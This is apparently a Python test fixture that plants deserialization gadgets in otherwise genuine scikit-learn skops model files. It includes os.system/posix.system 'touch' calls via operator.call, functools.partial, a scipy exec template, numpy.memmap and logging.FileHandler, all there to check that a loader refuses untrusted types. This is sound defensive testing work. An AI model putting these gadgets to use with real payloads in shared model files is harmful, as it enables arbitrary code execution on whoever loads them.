"""Hostile model folders: a genuine scikit-learn model with one extra attribute whose skops node
would run code (here: create a marker file) if its type were trusted.

Each builder returns the skops node; `plant(folder, node)` writes a real `LogisticRegression`
folder (`save_model`) and adds the node as an attribute of the estimator by editing the skops
zip's `schema.json` (one `content` entry and one `key_types` entry), so the model would still
predict normally. `GADGETS` names each one with the type names the refusal must mention.
`runs_when_trusted(...)` proves a node is a real exploit: skops runs it once told to trust.
"""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np

_ids = iter(range(10**12, 10**13))


def _str(value: str) -> dict[str, Any]:
    return {
        "__class__": "str",
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": json.dumps(value),
        "is_json": True,
        "__id__": next(_ids),
    }


def _json(value: Any) -> dict[str, Any]:
    return {**_str(""), "__class__": type(value).__name__, "content": json.dumps(value)}


def _tuple(*items: dict[str, Any]) -> dict[str, Any]:
    return {
        "__class__": "tuple",
        "__module__": "builtins",
        "__loader__": "TupleNode",
        "content": list(items),
        "__id__": next(_ids),
    }


def _function(module: str, name: str) -> dict[str, Any]:
    return {"__class__": name, "__module__": module, "__loader__": "FunctionNode",
            "__id__": next(_ids)}  # fmt: skip


def _call(module: str, name: str, *args: dict[str, Any]) -> dict[str, Any]:
    """`module.name(*args)`: skops calls the constructor (a class, or any callable)."""
    return {
        "__class__": name,
        "__module__": module,
        "__loader__": "ConstructorFromReduceNode",
        "content": _tuple(*args),
        "__id__": next(_ids),
    }


def _object(module: str, name: str, state: dict[str, dict[str, Any]]) -> dict[str, Any]:
    """`module.name.__new__` then `__setstate__(state)` (skops' ObjectNode)."""
    return {
        "__class__": name,
        "__module__": module,
        "__loader__": "ObjectNode",
        "content": _dict(state),
        "__id__": next(_ids),
    }


def _dict(content: dict[str, dict[str, Any]]) -> dict[str, Any]:
    type_node = {"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode",
                 "__id__": next(_ids)}  # fmt: skip
    return {
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "content": content,
        "key_types": {
            "__class__": "list",
            "__module__": "builtins",
            "__loader__": "ListNode",
            "content": [type_node for _ in content],
            "__id__": next(_ids),
        },
        "__id__": next(_ids),
    }


def scipy_distribution(marker: Path) -> dict[str, Any]:
    """A `norm_gen` whose state makes `rv_generic.__setstate__` exec code (issue 17's case)."""
    template = (
        f"import os\nos.system('touch {marker}')\n"
        "def _parse_args(self, *a, **k): return a, 0, 1\n"
        "def _parse_args_stats(self, *a, **k): return a, 0, 1, 'mv'\n"
        "def _parse_args_rvs(self, *a, **k): return a, 0, 1, None\n"
    )
    state = {"_parse_arg_template": _str(template), "moment_type": _json(0),
             "numargs": _json(0)}  # fmt: skip
    return _object("scipy.stats._continuous_distns", "norm_gen", state)


def memmap(marker: Path) -> dict[str, Any]:
    """`numpy.memmap(marker, "uint8", "w+", 0, (1,))`: creates the file."""
    return _call("numpy", "memmap", _str(str(marker)), _str("uint8"), _str("w+"), _json(0),
                 _tuple(_json(1)))  # fmt: skip


def system_call(marker: Path) -> dict[str, Any]:
    """`operator.call(posix.system, "touch marker")`."""
    return _call("operator", "call", _function("posix", "system"), _str(f"touch {marker}"))


def partial_system(marker: Path) -> dict[str, Any]:
    """`functools.partial(posix.system, "touch marker")`, called by `operator.call`."""
    partial = _call("functools", "partial", _function("posix", "system"),
                    _str(f"touch {marker}"))  # fmt: skip
    return _call("operator", "call", partial)


def file_handler(marker: Path) -> dict[str, Any]:
    """`logging.FileHandler(marker)`: a class whose `__init__` creates a file."""
    return _call("logging", "FileHandler", _str(str(marker)))


@dataclass(frozen=True)
class Gadget:
    """A node builder and the type names a refusal must name."""

    name: str
    build: Callable[[Path], dict[str, Any]]
    types: tuple[str, ...]


GADGETS = [
    Gadget("scipy-rv_generic", scipy_distribution, ("scipy.stats._continuous_distns.norm_gen",)),
    Gadget("numpy-memmap", memmap, ("numpy.memmap",)),
    Gadget("operator-call-system", system_call, ("operator.call", "posix.system")),
    Gadget("functools-partial", partial_system, ("operator.call", "posix.system")),
    Gadget("logging-FileHandler", file_handler, ("logging.FileHandler",)),
]


def add_attribute(model_bytes: bytes, name: str, node: dict[str, Any]) -> bytes:
    """The skops file `model_bytes` with `node` added as the estimator's attribute `name`."""
    source = zipfile.ZipFile(io.BytesIO(model_bytes))
    schema = json.loads(source.read("schema.json"))
    attributes = schema["content"]
    attributes["content"][name] = node
    key_types = attributes["key_types"]["content"]
    key_types.append(dict(key_types[0]))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.namelist():
            data = json.dumps(schema) if item == "schema.json" else source.read(item)
            target.writestr(item, data)
    return out.getvalue()


def genuine_model() -> Any:
    """A fitted LogisticRegression on 3 features, and its training data."""
    from sklearn.linear_model import LogisticRegression

    X = np.random.default_rng(0).random((40, 3))
    y = (X[:, 0] > 0.5).astype(int)
    return LogisticRegression().fit(X, y), X


def plant(folder: Path, node: dict[str, Any]) -> Path:
    """A real model folder whose model file also holds `node` (MLmodel.json's hash updated,
    as a writer of the folder would do)."""
    from jupyter_mlops.model_format import INFO_FILE, MODEL_FILE, file_sha256, save_model

    estimator, X = genuine_model()
    save_model(folder, estimator, X)
    model_file = folder / MODEL_FILE
    model_file.write_bytes(add_attribute(model_file.read_bytes(), "extra_", node))
    info = json.loads((folder / INFO_FILE).read_text())
    info["sha256"] = file_sha256(model_file)
    (folder / INFO_FILE).write_text(json.dumps(info))
    return folder


def runs_when_trusted(folder: Path, gadget: Gadget) -> Any:
    """Load the planted file with skops trusting everything it needs (what the old allow-list
    did for the scipy case): the payload runs."""
    import skops.io

    from jupyter_mlops.model_format import MODEL_FILE

    data = (folder / MODEL_FILE).read_bytes()
    return skops.io.loads(data, trusted=skops.io.get_untrusted_types(data=data))
